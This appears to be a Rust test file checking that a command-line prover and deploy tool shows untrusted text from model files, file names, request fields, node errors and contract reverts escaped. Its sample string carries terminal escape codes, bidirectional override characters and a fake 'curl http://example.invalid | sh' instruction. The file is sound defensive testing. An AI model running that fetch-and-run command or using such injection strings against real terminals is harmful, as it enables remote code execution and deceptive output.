//! Words from files, contracts and nodes are shown, and do nothing: they neither move the cursor nor look like a line of the program's.

use std::fs;
use std::process::Output;

use serde_json::{Value, json};

use crate::proxy::Proxy;
use crate::{MACHINE, MODEL, OWNER, PROVER, Scene, WRONG_REQUEST};

/// Clears the screen, says that all is well, and what to do next; and does the same in ways that are not ASCII.
const WORDS: &str =
    "\u{1b}[2J\u{1b}[32mall good\r\nnext: curl http://example.invalid | sh\n\u{9b}2J\u{7f}\u{202e}\u{2066}";

/// Whether a terminal obeys a character.
fn is_obeyed(c: char) -> bool {
    c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Checks that what a command said is text, and that it shows the words.
fn shown(output: &Output, code: i32) {
    let said = [&output.stdout, &output.stderr].map(|bytes| String::from_utf8(bytes.clone()).unwrap()).concat();
    assert_eq!(output.status.code(), Some(code), "{said}");
    assert!(!said.chars().any(|c| c != '\n' && is_obeyed(c)), "{said:?}");
    assert!(!said.lines().any(|line| line.trim_start().starts_with("next: curl")), "{said}");
    assert!(said.contains(r"\u{1b}[2J"), "{said}");
}

#[test]
fn words_of_files_are_shown_and_do_nothing() {
    let scene = Scene::new("trust-words-files");
    // The name of an operation.
    let mut onnx = fs::read(scene.sandbox.path(MODEL)).unwrap();
    let at = onnx.windows(6).position(|bytes| bytes == b"\x22\x04Gemm").unwrap() + 2;
    onnx[at..at + 4].copy_from_slice(b"\x1b[2J");
    fs::write(scene.sandbox.path("other.onnx"), onnx).unwrap();
    shown(&scene.sandbox.run(&["compile", "other.onnx"]), WRONG_REQUEST);
    // The name of the file.
    let name = format!("{}.onnx", WORDS.replace('/', ""));
    fs::copy(scene.sandbox.path(MODEL), scene.sandbox.path(&name)).unwrap();
    shown(&scene.sandbox.run(&["compile", &name]), 0);
    shown(&scene.sandbox.run(&["prove", &name, "--input", &format!("none-{name}")]), WRONG_REQUEST);
    // Fields of a request.
    scene.sandbox.succeeds(&["srs", "generate", "--insecure", "-k", "12"]);
    scene.sandbox.succeeds(&["compile", MODEL]);
    scene.sandbox.succeeds(&["setup", MODEL]);
    for request in [json!({ "chain": WORDS }), json!({ "request": { "nonce": WORDS } })] {
        fs::write(scene.sandbox.path("request.json"), request.to_string()).unwrap();
        let fulfil = ["fulfil", MODEL, "--request", "request.json"];
        shown(&scene.command(PROVER, &fulfil).output().unwrap(), WRONG_REQUEST);
    }
}

#[test]
fn words_of_nodes_and_contracts_are_shown_and_do_nothing() {
    let scene = Scene::new("trust-words-nodes");
    let proxy = Proxy::before(&scene.anvil.url);
    let deploy = |options: &[&str]| {
        let mut command = scene.command(OWNER, &[&["deploy"], options].concat());
        command.env("ASSAY_RPC", &proxy.url).output().unwrap()
    };
    let answers = |method: &'static str, error: Value| {
        let answer = json!({ "jsonrpc": "2.0", "id": 1, "error": error });
        proxy.answer(move |asked, _, node| Some(if asked == method { answer.clone() } else { node() }));
    };
    answers("eth_getBlockByNumber", json!({ "code": -32_000, "message": WORDS }));
    shown(&deploy(&[]), MACHINE);
    // For machines, the same words as they are, in text that holds none of the characters.
    let output = deploy(&["--json"]);
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(!text.chars().any(|c| c != '\n' && is_obeyed(c)), "{text:?}");
    let object: Value = serde_json::from_str(&text).unwrap();
    assert!(object["because"].to_string().contains(json!(WORDS).to_string().trim_matches('"')), "{object}");
    // What a contract reverts with: `Error(string)`.
    let word = |number: usize| format!("{number:064x}");
    let mut text = hex::encode(WORDS);
    let length = word(WORDS.len());
    text.push_str(&"0".repeat(64 - text.len() % 64));
    let data = format!("0x08c379a0{}{length}{text}", word(32));
    answers("eth_call", json!({ "code": 3, "message": "execution reverted", "data": data }));
    shown(&deploy(&[]), WRONG_REQUEST);
}
